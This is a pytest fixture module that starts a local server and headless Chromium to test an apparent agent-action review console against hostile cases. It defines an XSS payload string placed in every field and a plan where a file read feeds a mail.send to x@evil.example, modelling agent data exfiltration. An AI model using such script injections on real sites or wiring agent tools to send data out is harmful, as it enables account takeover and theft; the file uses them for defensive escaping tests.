"""A real server with the shipped model, a real headless Chromium, and cases of every kind in the queue."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from gatling_core.registry import Registry, read_manifest
from server.examples import ALLOWED, ATTACK

ROOT = Path(__file__).resolve().parents[2]
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
_FLAGS = "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking --disable-component-update --disable-sync"
_UP_S = 60

HOSTILE = "</script><script>document.title='taken'</script><img src=x onerror=\"document.title='taken'\">"


def hostile(number: int) -> dict[str, Any]:
    """A case in which every text is an attempt to run a script in the reviewer's browser."""
    nodes = [
        {
            "node_id": "a",
            "tool_name": f"files.read{HOSTILE}",
            "arguments": {HOSTILE: HOSTILE, "number": number},
            "output": HOSTILE,
        },
        {
            "node_id": "b",
            "tool_name": "mail.send",
            "arguments": {"to": "x@evil.example"},
            "influence": {"outputs": 0.9, "source": "a"},
        },
    ]
    plan = {"nodes": nodes, "edges": [["a", "b"]]}
    return {"policy": {"rule": HOSTILE}, "user_role": HOSTILE, "context": {"request": HOSTILE}, "execution_plan": plan}


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """Chromium, or a skip that says what is missing.

    For one module only: while it runs, Playwright holds the event loop of this thread, and no async test could run.
    """
    playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed: locks/dev.txt has it")
    if CHROMIUM is None:
        pytest.skip("no Chromium on the PATH: on Debian, apt install chromium")
    with playwright.sync_playwright() as started:
        browser = started.chromium.launch(executable_path=CHROMIUM, args=_FLAGS.split())
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Where the server keeps what it has."""
    return tmp_path_factory.mktemp("console")


@pytest.fixture(scope="module")
def site(browser: Any, data_dir: Path) -> Iterator[str]:
    """The address of a server that queues every case, outputs and all; started only where there is a browser."""
    inherited = {name: value for name, value in os.environ.items() if name != "REDIS_URL" and not name.startswith("GATLING_")}
    environment = inherited | {
        "GATLING_DATA_DIR": str(data_dir),
        "GATLING_SHIPPED_MODEL": str(ROOT / "shipped"),
        "GATLING_BANDS": '{"queue_from": 0, "queue_to": 1000000}',
        "GATLING_QUEUE_OUTPUTS": "true",
        "PYTHONPATH": str(ROOT),
    }
    command = [sys.executable, "-m", "server", "up", "--port", "0"]
    with subprocess.Popen(command, env=environment, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout
        greeting = process.stdout.readline()
        address = re.search(r"http://127\.0\.0\.1:\d+", greeting)
        assert address, greeting
        try:
            yield address[0]
        finally:
            process.kill()


@pytest.fixture(scope="module")
def registry(site: str, data_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Registry:
    """That of the server: its model is current, and there are two newer versions, copies of it."""
    registry, staged = Registry(data_dir / "registry"), tmp_path_factory.mktemp("staged") / "package"
    current = registry.current()
    assert current
    shutil.copytree(registry.package(current), staged)
    shipped = read_manifest(staged)
    for _ in range(2):
        registry.publish(staged, feature_version=shipped.feature_version, metrics=shipped.metrics, parent=current)
    return registry


@pytest.fixture(scope="module")
def put(site: str) -> Callable[..., list[str]]:
    """Score cases under a tenant of the test's own and wait until they are in the queue; their decision ids, oldest first."""

    def put(tenant: str, *cases: dict[str, Any]) -> list[str]:
        with httpx.Client(base_url=site, timeout=30) as http:
            ids = [http.post("/score", json=case, headers={"gatling-tenant": tenant}).json()["decision_id"] for case in cases]
            deadline = time.monotonic() + _UP_S
            while len(http.get("/cases", params={"tenant": tenant}).json().get("cases", [])) < len(cases):
                assert time.monotonic() < deadline, "the cases did not reach the queue"
                time.sleep(0.05)
        return ids

    return put


def variants(count: int, start: int = 0) -> list[dict[str, Any]]:
    """As many different cases, every other an attack."""
    cases: list[dict[str, Any]] = []
    for number in range(start, start + count):
        case = (ALLOWED, ATTACK)[number % 2]
        cases.append({**case, "context": {"request": f"{case['context']['request']} number {number}"}})
    return cases
